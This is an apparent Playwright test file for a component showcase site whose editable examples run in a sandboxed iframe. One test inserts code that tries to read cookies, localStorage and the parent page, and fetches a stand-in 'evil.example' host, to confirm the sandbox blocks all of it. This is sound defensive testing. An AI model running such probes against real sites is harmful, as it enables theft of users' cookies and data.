import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { shownComponents } from '../catalog/component-groups.ts'
import { shownExamples } from '../stage/shown-examples.ts'
import { useSite, violationsOf } from './__fixtures__/use-site.ts'

const open = useSite()
const PAGE = 'components/text-conversation-view.html'

/** Every example, which `test:all` tries; else one in so many. */
const ONE_IN = process.env.VITRINE_EVERY_EXAMPLE === undefined ? 10 : 1

/** The first state of a page, with its code open for changes. */
async function edit(page: Page) {
  const state = page.locator('.state').first()
  await state.getByRole('button', { name: 'Edit' }).click()
  const field = state.getByRole('textbox')
  await field.waitFor()
  return { state, field, edited: state.frameLocator('iframe[sandbox]'), status: state.getByRole('status') }
}

const greeting = (text: string) => `export const Example = () => <h1>${text}</h1>`

test('code of an example is changed in the page, and its stage shows the change', async () => {
  const { page, complaints } = await open(PAGE, { theme: 'dark', direction: 'rtl' })
  const { state, field, edited } = await edit(page)
  expect(await field.evaluate((element) => element === document.activeElement)).toBe(true)
  const code = await field.inputValue()
  expect(code).toContain('TextConversationView')
  await field.fill(code.replace(/=> (<.*)$/, '=> <><p>Ahead of it</p>$1</>'))
  await edited.getByText('Ahead of it').waitFor()
  await edited.locator('article').first().waitFor()
  expect(await state.locator('iframe:not([sandbox])').isVisible()).toBe(false)
  await edited.locator('html[data-theme=dark][dir=rtl][lang=ar]').waitFor()
  expect(await violationsOf(page)).toEqual([])
  await page.setViewportSize({ width: 320, height: 640 })
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320)
  await page.getByRole('button', { name: 'Right to left' }).evaluate((button: HTMLElement) => button.click())
  await edited.locator('html[dir=ltr][lang=en]').waitFor()
  expect(complaints).toEqual([])
  await page.close()
})

test.each([
  ['syntax', 'const a = 1\n\nconst = 2', /^Line 3: SyntaxError: /],
  [
    'syntax that only the browser refuses',
    `const a = 1\nconst a = 2\n${greeting('x')}`,
    /^Line 2: SyntaxError: /,
  ],
  [
    'what is thrown at once',
    `const bed = undefined\n\nbed.leeks()\n${greeting('x')}`,
    /^Line 3: TypeError: /,
  ],
  [
    'what is thrown by a component',
    'export const Example = () => {\n  throw new RangeError("No bed.")\n}',
    'Line 2: RangeError: No bed.',
  ],
  [
    'what is thrown later',
    `setTimeout(() => {\n  throw new Error("Frost.")\n})\n${greeting('x')}`,
    'Line 2: Error: Frost.',
  ],
  ['what is thrown and is no error', `throw 'frost'`, 'Thrown string: frost'],
  [
    'a module that is not there',
    `import { x } from 'left-pad'\n${greeting('{x}')}`,
    /^Line 1: Error: There is no "left-pad" here\./,
  ],
  ['a missing component', 'export const a = 1', 'The code exports no component that is called Example.'],
])('an error is shown with its line: %s', async (_, code, expected) => {
  const { page } = await open(PAGE)
  const { field, status, edited } = await edit(page)
  await field.fill(code)
  await expect.poll(() => status.innerText()).toMatch(expected)
  expect(await field.getAttribute('aria-invalid')).toBe('true')
  await field.fill(greeting('Mended'))
  await edited.getByRole('heading', { name: 'Mended' }).waitFor()
  expect(await status.innerText()).not.toMatch(expected)
  await page.close()
})

test('reset brings the shown code and its stage back, and close the colours', async () => {
  const { page } = await open(PAGE)
  const { state, field, edited } = await edit(page)
  const code = await field.inputValue()
  await field.fill(greeting('Changed'))
  await edited.getByRole('heading', { name: 'Changed' }).waitFor()
  await state.getByRole('button', { name: 'Reset' }).click()
  expect(await field.inputValue()).toBe(code)
  expect(await state.locator('iframe:not([sandbox])').isVisible()).toBe(true)
  expect(await state.locator('iframe[sandbox]').isVisible()).toBe(false)
  await state.getByRole('button', { name: 'Close' }).click()
  expect(await state.locator('pre').isVisible()).toBe(true)
  expect(await state.locator('iframe').count()).toBe(1)
  await page.close()
})

test('the field is left by Tab, keeps indentation at Enter, and indents by keys', async () => {
  const { page } = await open(PAGE)
  const { field } = await edit(page)
  await field.fill('  leeks')
  await page.keyboard.press('End')
  await page.keyboard.press('Enter')
  await page.keyboard.type('beans')
  expect(await field.inputValue()).toBe('  leeks\n  beans')
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.press('ControlOrMeta+]')
  expect(await field.inputValue()).toBe('    leeks\n    beans')
  await page.keyboard.press('ControlOrMeta+[')
  await page.keyboard.press('ControlOrMeta+[')
  await page.keyboard.press('ControlOrMeta+z')
  expect(await field.inputValue()).toBe('  leeks\n  beans')
  await page.keyboard.press('Tab')
  expect(await field.evaluate((element) => element === document.activeElement)).toBe(false)
  await page.close()
})

test('code of a link runs only when the reader says so, and reaches nothing of the site', async () => {
  const { page } = await open(PAGE)
  const { state, field } = await edit(page)
  await field.fill(`const reach = (act) => { try { return String(act()) } catch (error) { return error.name } }
const found = [() => localStorage.length, () => parent.document.title, () => document.cookie].map(reach)
export const Example = () => <h1>{found.join(' ')}</h1>`)
  await state.getByRole('button', { name: 'Copy link' }).click()
  await page.waitForURL(/#code=[\w-]+\.[\w-]+$/)
  const address = new URL(page.url())
  await page.close()

  const asked: string[] = []
  const { page: linked, complaints } = await open(address.pathname.slice(1) + address.hash)
  linked.on('request', (request) => asked.push(request.url()))
  const offered = linked.locator('.state').first()
  const run = offered.getByRole('button', { name: 'Run the code of the link' })
  await run.waitFor()
  expect(await offered.getByRole('textbox').inputValue()).toContain('localStorage.length')
  await linked.clock.install()
  await offered.getByRole('textbox').press('End')
  await linked.keyboard.type(' ')
  const heading = offered.frameLocator('iframe[sandbox]').getByRole('heading', { level: 1 })
  await linked.clock.runFor(1000)
  expect(await violationsOf(linked)).toEqual([])
  expect(await heading.count()).toBe(0)
  await linked.clock.resume()
  await run.click()
  await heading.waitFor({ timeout: 10_000 })
  expect(await heading.innerText()).toBe('SecurityError SecurityError SecurityError')
  await offered.getByRole('textbox').fill(`void fetch('https://evil.example/')\n${greeting('Sent')}`)
  await expect.poll(() => offered.getByRole('status').innerText()).toContain('TypeError: Failed to fetch')
  expect(asked.filter((each) => each.includes('evil.example'))).toEqual([])
  expect(complaints.filter((each) => !each.includes('Content Security Policy'))).toEqual([])
  await linked.close()
})

test('a frame that its code led elsewhere is ended, and opens again', async () => {
  const { page } = await open(PAGE)
  const { state, field, status, edited } = await edit(page)
  await field.fill(`location.href = 'about:blank'\n${greeting('Away')}`)
  await expect.poll(() => status.innerText()).toBe('The code led its frame to another page.')
  expect(await state.locator('iframe:not([sandbox])').isVisible()).toBe(true)
  await field.fill(greeting('Back'))
  await edited.getByRole('heading', { name: 'Back' }).waitFor()
  await page.close()
})

test('the code of the examples that can be edited runs as it is shown', { timeout: 240_000 }, async () => {
  const { page } = await open(PAGE)
  const { field, status } = await edit(page)
  const codes = shownComponents.flatMap(({ id, states }) =>
    states.flatMap((state) => {
      const example = state.screen ? undefined : shownExamples.get(`${id}/${state.id}`)
      return example?.Example ? [{ name: `${id}/${state.id}`, code: example.code }] : []
    }),
  )
  expect(codes.length).toBeGreaterThan(60)
  const failures: string[] = []
  for (const { name, code } of codes.filter((_, index) => index % ONE_IN === 0)) {
    await field.fill('')
    await expect.poll(() => status.innerText()).toContain('exports no component')
    await field.fill(`${code}\n`)
    await expect.poll(() => status.innerText()).not.toContain('exports no component')
    const said = await status.innerText()
    if (said !== 'Shows the code as you changed it.') failures.push(`${name}: ${said}`)
  }
  expect(failures).toEqual([])
  await page.close()
})
